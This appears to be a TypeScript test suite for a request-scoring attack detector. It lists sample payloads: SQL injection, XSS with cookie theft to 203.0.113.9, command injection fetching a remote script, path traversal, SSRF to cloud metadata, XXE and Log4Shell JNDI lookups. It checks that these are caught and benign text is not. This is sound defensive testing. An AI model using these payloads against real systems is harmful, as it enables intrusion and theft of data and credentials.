import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { AttackClass } from './attack-class.ts';
import type { Leaf } from './leaf.ts';
import { loadModel } from './load-model.ts';
import { Model } from './model.ts';
import { ValueScorer } from './scorer.ts';

const scorer = new ValueScorer(loadModel());

function leaf(text: string, isKey = false): Leaf {
  return { location: 'query', isKey, path: 'q', text, decoded: [] };
}

const ATTACKS: readonly (readonly [AttackClass, string, boolean?])[] = [
  ['sqli', "7' or 8=8 -- "],
  ['sqli', '-3 union select login, secret from members#'],
  ['sqli', "x'; drop table invoices; --"],
  ['xss', '<script>alert(7)</script>'],
  ['xss', '"><img src=q onerror=alert(7)>'],
  ['cmd', '; cat /etc/passwd'],
  ['cmd', '$(curl http://203.0.113.9/p.sh)'],
  ['traversal', '../../../../etc/passwd'],
  ['template', "{{ ''.__class__.__mro__ }}"],
  ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
  ['xxe', '<!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/hosts">]><q>&e;</q>'],
  ['log4shell', '${${lower:j}ndi:ldap://203.0.113.9/q}'],
  ['prototype', '__proto__', true],
  ['nosqli', '$ne', true],
  ['ldap', '*)(uid=*))(|(uid=*'],
  ['crlf', 'en\r\nSet-Cookie: admin=1'],
];

for (const [kind, text, isKey] of ATTACKS) {
  test(`${kind} is seen in ${JSON.stringify(text)}, and percent-encoded once more`, () => {
    const verdict = scorer.scoreValue(leaf(text, isKey));
    assert.ok(verdict?.reaches.default, `score ${verdict?.score}`);
    assert.ok(verdict.classes.some((near) => near.class === kind));
    assert.ok(verdict.contributions.length > 0 && verdict.spans.length > 0);
    if (isKey !== true) {
      const encoded = scorer.scoreValue(leaf(encodeURIComponent(text)));
      assert.ok(encoded?.reaches.default, `encoded: ${encoded?.score}`);
    }
  });
}

for (const text of [
  'hello',
  '550e8400-e29b-41d4-a716-446655440000',
  "Conan O'Brien",
  'Please select the best table from our list.',
  'price < 10 and size > 3',
  'https://www.example.com/a?b=c',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'l\'été, c\'est "bien"; non?',
]) {
  test(`nothing is refused of ${JSON.stringify(text)}`, () => {
    assert.equal(scorer.scoreValue(leaf(text))?.reaches.default ?? false, false);
  });
}

test('prose around an attack does not wash it clean', () => {
  const prose = 'We had a lovely day at the sea and the weather was fine. ';
  for (const repeats of [1, 20, 200]) {
    const text = `${prose.repeat(repeats)} <script>document.location='//203.0.113.9/'+document.cookie</script> ${prose.repeat(repeats)}`;
    assert.ok(scorer.scoreValue(leaf(text))?.reaches.default, `${repeats} sentences`);
  }
});

const CALM = 'We had a lovely day at the sea and the weather was fine. ';

/** Harmless text in the alphabet of each interpreter. It may neither hide an attack nor keep it from being read. */
const NOISE = [
  'select the best of our tables, or order from the list where prices drop -- see below; ',
  '<p class="note">it is <b>not</b> a <i>test</i></p> ',
  'if (a[i] > b) { return f("x", y) + 1; } ',
  '{"a":"b","c":[1,2],"d":"e=f"}, ',
  "the cat's id; more ls | tail of it & so on ",
];

for (const [kind, text, isKey] of ATTACKS) {
  if (isKey === true || kind === 'cmd') continue;
  test(`1 KB and 64 KB of noise before, after and around do not hide ${kind} in ${JSON.stringify(text)}`, () => {
    for (const noise of NOISE) {
      const half = noise.repeat(Math.ceil(32_768 / noise.length));
      const calm = CALM.repeat(9);
      assert.ok(scorer.scoreUntilCertain(leaf(`${half}${calm}${text} ${calm}${half}`))?.reaches.default, noise);
    }
    const [noise = ''] = NOISE;
    for (const units of [1024, 65_536]) {
      const whole = noise.repeat(Math.ceil(units / noise.length));
      for (const padded of [`${whole}${CALM}${text}`, `${text} ${CALM}${whole}`, `${CALM}${text} ${CALM}`])
        assert.ok(scorer.scoreValue(leaf(padded))?.reaches.default, padded.slice(0, 200));
    }
  });
}

test('no number of harmless places keeps the last one from being read', () => {
  for (const noise of NOISE) {
    const many = `${noise}${CALM}`.repeat(1000);
    assert.ok(
      scorer.scoreUntilCertain(leaf(`${many}-3 union select login, secret from members#`))?.reaches.default,
      noise,
    );
  }
});

test('a value that is sent again and again is judged as the first time, whether as a value or as a name', () => {
  for (let time = 0; time < 4; time++) {
    assert.equal(scorer.scoreValue(leaf('some.$where.thing'))?.reaches.default ?? false, false);
    assert.equal(scorer.scoreValue(leaf("7' or 8=8 -- "))?.reaches.default, true);
  }
  assert.equal(scorer.scoreValue(leaf('some.$where.thing', true))?.reaches.default, true);
});

test('a verdict is the same whatever was scored before it', () => {
  const first = scorer.scoreValue(leaf("7' or 8=8 -- "));
  scorer.scoreValue(leaf('<p>another</p>'.repeat(500)));
  assert.deepEqual(scorer.scoreValue(leaf("7' or 8=8 -- ")), first);
});

test('no text makes the scorer throw', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary', maxLength: 200 }),
        fc
          .array(
            fc.constantFrom(
              "'",
              '"',
              '<',
              '>',
              '${',
              '{{',
              '}',
              '%',
              '%2',
              '%u',
              '\\',
              '/*',
              '*/',
              '&#',
              '--',
              'or',
              'union',
              '..',
              '/',
              ':',
              '\r\n',
              '(',
              ')',
              '\u0000',
              '\uff1c',
              '=',
              '1',
            ),
            { maxLength: 60 },
          )
          .map((parts) => parts.join('')),
      ),
      fc.boolean(),
      (text, isKey) => {
        scorer.scoreValue(leaf(text, isKey));
      },
    ),
    { numRuns: 20_000 },
  );
});

test('a damaged model is refused', () => {
  for (const text of ['', '{', '{}', '[]', '{"format":2}']) assert.throws(() => Model.parse(text), /model/);
});

test('what a value scores depends on no value before it', () => {
  const pieces = [
    "'",
    '((',
    '))',
    '|',
    '//',
    '/*',
    '-- ',
    '#',
    '=',
    '&',
    '%27',
    'é',
    'base64,',
    ' or 1',
    '\r\n',
    'x',
    ...ATTACKS.map(([, text]) => text),
  ];
  const text = fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
  const packed = text.map((inner) => Buffer.from(inner).toString('base64'));
  const first = new ValueScorer(loadModel());
  const second = new ValueScorer(loadModel());
  fc.assert(
    fc.property(fc.array(fc.oneof(text, packed), { minLength: 4, maxLength: 12 }), (texts) => {
      const forwards = texts.map((one) => first.scoreValue(leaf(one)));
      const backwards = texts.toReversed().map((one) => second.scoreValue(leaf(one)));
      assert.deepEqual(forwards, backwards.toReversed());
    }),
    { numRuns: 500 },
  );
});

test('the name of a class that was clean in a field of text is seen where the document asks for a class', () => {
  const fresh = new ValueScorer(loadModel());
  const name = 'com.acme.shop.Order';
  for (let time = 0; time < 3; time++) assert.equal(fresh.scoreValue(leaf(name)), undefined);
  for (const path of ['body.order.@type', 'body.^c', 'query.order[@class]'])
    assert.equal(fresh.scoreValue({ ...leaf(name), location: 'json', path })?.class, 'deserialisation', path);
});

test('what is clean under one key path is judged anew under another', () => {
  const scorer = new ValueScorer(loadModel());
  const leaf = (place: Partial<Leaf>, text: string): Leaf => ({
    location: 'json',
    isKey: false,
    path: 'body.a',
    text,
    decoded: [],
    ...place,
  });
  for (const [clean, other] of [
    [
      leaf({ isKey: true, path: 'body.filter.age.$gte' }, '$gte'),
      leaf({ isKey: true, path: 'body.password.$gte' }, '$gte'),
    ],
    [
      leaf({ isKey: true, path: 'body.where.age.$nin' }, '$nin'),
      leaf({ isKey: true, path: 'body.password.$nin' }, '$nin'),
    ],
    [
      leaf({ location: 'multipart', path: 'body.f' }, '../ab/cd'),
      leaf({ location: 'multipart', path: 'body.f.;filename' }, '../ab/cd'),
    ],
    [
      leaf({ path: 'body.redirect_uri' }, 'http://localhost:8400/'),
      leaf({ path: 'body.url' }, 'http://localhost:8400/'),
    ],
  ] as const) {
    const fresh = new ValueScorer(loadModel()).scoreValue(other);
    for (let i = 0; i < 4; i++) scorer.scoreValue(clean);
    assert.equal(scorer.scoreValue(other)?.score, fresh?.score, other.path);
    assert.ok((fresh?.score ?? -20) > (scorer.scoreValue(clean)?.score ?? -20), clean.path);
  }
});

test('what is told of a verdict is of the window that scored highest, whatever was read after it', () => {
  const prose = ' It was a long day, and nobody said much of it until the evening came.'.repeat(12);
  const verdict = scorer.scoreValue(leaf(`1' union select a, b from c-- ${prose} (x) = [y]; {z} <b>`));
  assert.ok(verdict?.contributions.some(({ feature }) => feature === 'sql.union-select'));
});

test('linked data says of what type its things are, and a class with its package is none of these', () => {
  assert.ok(!scorer.scoreValue(leaf('@type', true))?.reaches.default);
  const typed = { ...leaf('Person'), location: 'json', path: 'body.@type' } as const;
  assert.ok(!scorer.scoreValue(typed)?.reaches.default);
  for (const text of ['https://schema.org/Person', 'A person. And more', 'v1.2'])
    assert.ok(!scorer.scoreValue({ ...typed, text })?.reaches.default, text);
  assert.ok(scorer.scoreValue({ ...typed, text: 'javax.naming.InitialContext' })?.reaches.default);
});

test('words behind the question mark or fragment of a URL make no sentence of it', () => {
  for (const text of [
    'http://127.0.0.1:8080/admin?q= a b c',
    'http://10.0.0.5/internal?q= a b c',
    ' http://localhost:6379/',
    '\thttp://10.0.0.5/internal',
  ])
    assert.equal(scorer.scoreValue(leaf(text))?.reaches.default, true, text);
});
